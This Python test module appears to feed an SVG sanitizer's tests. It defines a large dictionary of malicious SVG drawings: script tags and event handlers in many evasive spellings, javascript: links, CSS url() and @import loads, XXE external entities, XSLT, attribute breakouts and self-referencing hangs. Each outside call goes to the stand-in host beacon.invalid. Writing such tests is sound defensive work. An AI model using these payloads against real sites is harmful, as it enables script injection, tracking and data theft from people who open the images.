"""Attacks on whoever opens a stored drawing: markup that runs a script, loads something or hangs, each by its trick.

Written for these tests. `BEACON` stands where an attack would call; nothing must ever arrive there.
"""

BEACON = "http://beacon.invalid"

_HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"'


def _drawing(content: str, attributes: str = "") -> str:
    return f'{_HEAD} {attributes}><rect width="9" height="9" fill="red"/>{content}</svg>'


ATTACKS = {
    "script": _drawing("<script>document.title='hit'</script>"),
    "script in capitals": _drawing("<SCRIPT>document.title='hit'</SCRIPT>"),
    "script under a prefix": _drawing('<s:script xmlns:s="http://www.w3.org/2000/svg">document.title="hit"</s:script>'),
    "script of html": _drawing('<h:script xmlns:h="http://www.w3.org/1999/xhtml">document.title="hit"</h:script>'),
    "script in defs": _drawing("<defs><g><script>document.title='hit'</script></g></defs>"),
    "script from outside": _drawing(f'<script href="{BEACON}/x.js"/>'),
    "script in cdata": _drawing("<style><![CDATA[</style><script>document.title='hit'</script>]]></style>"),
    "script in a title": _drawing("<title>&lt;script&gt;document.title='hit'&lt;/script&gt;</title>"),
    "onload": _drawing("", "onload=\"document.title='hit'\""),
    "onload in capitals": _drawing("", "ONLOAD=\"document.title='hit'\""),
    "onbegin": _drawing("<animate attributeName='x' dur='1s' onbegin=\"document.title='hit'\"/>"),
    "onclick on a shape": _drawing('<rect width="9" height="9" onclick="document.title=\'hit\'"/>'),
    "onerror of an image": _drawing("<image href='x' onerror=\"document.title='hit'\"/>"),
    "handler element": _drawing(
        '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">document.title="hit"</handler>'
    ),
    "javascript link": _drawing('<a href="javascript:document.title=\'hit\'"><rect width="9" height="9"/></a>'),
    "javascript link with a tab": _drawing('<a href="java&#9;script:document.title=\'hit\'"><rect width="9"/></a>'),
    "javascript in xlink": _drawing("<use xlink:href=\"javascript:document.title='hit'\"/>"),
    "javascript in a style": _drawing('<rect width="9" height="9" style="fill:url(javascript:alert(1))"/>'),
    "foreignObject": _drawing(
        '<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" '
        f'src="{BEACON}/f"/></foreignObject>'
    ),
    "foreignObject in a switch": _drawing(
        '<switch><foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" '
        "onload=\"document.title='hit'\"/></foreignObject></switch>"
    ),
    "html image": _drawing(f'<img xmlns="http://www.w3.org/1999/xhtml" src="{BEACON}/i"/>'),
    "image from outside": _drawing(f'<image href="{BEACON}/i.png" width="9" height="9"/>'),
    "image in data": _drawing('<image href="data:image/svg+xml,&lt;svg onload=alert(1)&gt;" width="9" height="9"/>'),
    "feImage from outside": _drawing(f'<filter id="f"><feImage href="{BEACON}/i.png"/></filter>'),
    "use from outside": _drawing(f'<use href="{BEACON}/u.svg#a"/>'),
    "use of data": _drawing('<use href="data:image/svg+xml;base64,PHN2Zy8+#x"/>'),
    "use without a scheme": _drawing('<use href="//beacon.invalid/u.svg#a"/>'),
    "use relative": _drawing('<use href="other.svg#a"/>'),
    "gradient from outside": _drawing(f'<linearGradient id="g" xlink:href="{BEACON}/g.svg#g"/>'),
    "textPath from outside": _drawing(f'<text><textPath href="{BEACON}/t.svg#p">a</textPath></text>'),
    "cursor": _drawing(f'<cursor id="c" xlink:href="{BEACON}/c.png"/><rect width="9" style="cursor:url({BEACON}/c)"/>'),
    "paint from outside": _drawing(f'<rect width="9" height="9" fill="url({BEACON}/p.svg#p)"/>'),
    "paint quoted": _drawing(f"<rect width='9' height='9' fill='url(\"{BEACON}/p.svg#p\")'/>"),
    "filter from outside": _drawing(f'<rect width="9" height="9" filter="url({BEACON}/f.svg#f)"/>'),
    "mask from outside": _drawing(f'<rect width="9" height="9" style="mask:url({BEACON}/m.svg#m)"/>'),
    "mask-image": _drawing(f'<rect width="9" height="9" style="mask-image:url({BEACON}/m.png)"/>'),
    "clip-path from outside": _drawing(f'<rect width="9" height="9" clip-path="URL( {BEACON}/c.svg#c )"/>'),
    "marker from outside": _drawing(f'<path d="M0 0L9 9" style="marker-start:url({BEACON}/m.svg#a)"/>'),
    "local url and then an outer": _drawing(f'<rect width="9" height="9" fill="url(#a) url({BEACON}/b)"/>'),
    "background image": _drawing("", f'style="background:url({BEACON}/b.png)"'),
    "background by image-set": _drawing("", f"style='background:image-set(\"{BEACON}/b.png\" 1x)'"),
    "list-style": _drawing("", f'style="list-style:url({BEACON}/l.png)"'),
    "import by url": _drawing(f"<style>@import url({BEACON}/a.css);</style>"),
    "import by string": _drawing(f'<style>@import "{BEACON}/a.css";</style>'),
    "import in capitals": _drawing(f"<style>@IMPORT url({BEACON}/a.css);</style>"),
    "import escaped": _drawing(f"<style>@\\69mport url({BEACON}/a.css);</style>"),
    "import after a comment": _drawing(f'<style>/**/@import/**/"{BEACON}/a.css";</style>'),
    "import in pieces": _drawing(f"<style>@im<!-- -->port url({BEACON}/a.css);</style>"),
    "font from outside": _drawing(
        f'<style>@font-face{{font-family:x;src:url({BEACON}/f.woff)}}</style><text style="font-family:x">a</text>'
    ),
    "namespace rule": _drawing(f"<style>@namespace url({BEACON}/n);</style>"),
    "document rule": _drawing(f"<style>@document url({BEACON}/){{rect{{fill:blue}}}}</style>"),
    "url in a rule": _drawing(f"<style>rect{{fill:url({BEACON}/p.svg#p)}}</style>"),
    "url in a media rule": _drawing(f"<style>@media all{{rect{{background:url({BEACON}/p)}}}}</style>"),
    "url in a nested rule": _drawing(f"<style>svg{{rect{{background:url({BEACON}/p)}}}}</style>"),
    "url in a variable": _drawing(f"<style>:root{{--u:url({BEACON}/v)}} svg{{background:var(--u)}}</style>"),
    "url escaped": _drawing(f'<rect width="9" height="9" style="fill:u\\72l({BEACON}/e#e)"/>'),
    "url escaped in an attribute": _drawing(f'<rect width="9" height="9" fill="ur\\6c({BEACON}/e#e)"/>'),
    "url split by a comment": _drawing(f'<rect width="9" height="9" style="fill:url/**/({BEACON}/e#e)"/>'),
    "url by src()": _drawing(f"<rect width='9' height='9' style='fill:src(\"{BEACON}/e#e\")'/>"),
    "url after a broken string": _drawing(f"<style>rect{{content:'\n;fill:url({BEACON}/e#e)}}</style>"),
    "url after a broken bracket": _drawing(f"<style>a{{b:(;}} rect{{fill:url({BEACON}/e#e)}}</style>"),
    "attribute selector that tells": _drawing(f'<style>rect[fill^="r"]{{background:url({BEACON}/r)}}</style>'),
    "expression": _drawing('<rect width="9" height="9" style="width:expression(alert(1))"/>'),
    "behavior": _drawing(f'<rect width="9" height="9" style="behavior:url({BEACON}/b.htc)"/>'),
    "moz-binding": _drawing(f'<rect width="9" height="9" style="-moz-binding:url({BEACON}/b.xml#x)"/>'),
    "overlay": _drawing("", 'style="position:fixed;inset:0;z-index:9999"'),
    "set on href": _drawing("<a id='a'><rect width='9'/><set attributeName='href' to='javascript:alert(1)'/></a>"),
    "animate on xlink href": _drawing(
        f'<use><animate attributeName="xlink:href" values="{BEACON}/u.svg#a" dur="1s"/></use>'
    ),
    "set on a handler": _drawing("<set attributeName='onmouseover' to='alert(1)'/>"),
    "animate of another element": _drawing(
        '<rect id="r" width="9"/><animate href="#r" attributeName="fill" to="url(x)"/>'
    ),
    "xml:base": _drawing('<use href="#a"/>', f'xml:base="{BEACON}/"'),
    "processing instruction": f'<?xml-stylesheet href="{BEACON}/x.css"?>{_drawing("")}',
    "processing instruction inside": _drawing(f'<?xml-stylesheet href="{BEACON}/x.css" type="text/css"?>'),
    "xslt": _drawing(
        '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/">'
        "<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script></xsl:template></xsl:stylesheet>"
    ),
    "doctype from outside": f'<!DOCTYPE svg SYSTEM "{BEACON}/e.dtd">{_drawing("")}',
    "entity": f'<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>{_drawing("&x;")}',
    "entity from outside": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{BEACON}/x">]>{_drawing("<text>&x;</text>")}',
    "parameter entity": f'<!DOCTYPE svg [<!entity % x SYSTEM "{BEACON}/x"> %x;]>{_drawing("")}',
    "style that closes early": _drawing("<style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style>"),
    "id that breaks out": _drawing('<rect id="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" width="9"/>'),
    "class that breaks out": _drawing('<rect class="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" width="9"/>'),
    "title that breaks out": _drawing('<title>&lt;/title&gt;&lt;img src=x onerror="document.title=1"&gt;</title>'),
    "math": _drawing('<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><img src="x"/></mtext></math>'),
    "svg in svg with a handler": _drawing("<svg onload=\"document.title='hit'\"><rect width='9'/></svg>"),
    "video": _drawing(f'<video xmlns="http://www.w3.org/1999/xhtml" src="{BEACON}/v" autoplay="" />'),
    "link element": _drawing(f'<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="{BEACON}/l.css"/>'),
    "use of itself": _drawing('<g id="a"><use href="#a"/></g>'),
    "pattern of itself": _drawing('<pattern id="p" width="1" height="1"><rect fill="url(#p)" width="1"/></pattern>'),
    "pattern of itself by a rule": _drawing(
        '<style>rect{fill:url(#p)}</style><pattern id="p" width="1" height="1"><rect width="1" height="1"/></pattern>'
    ),
}
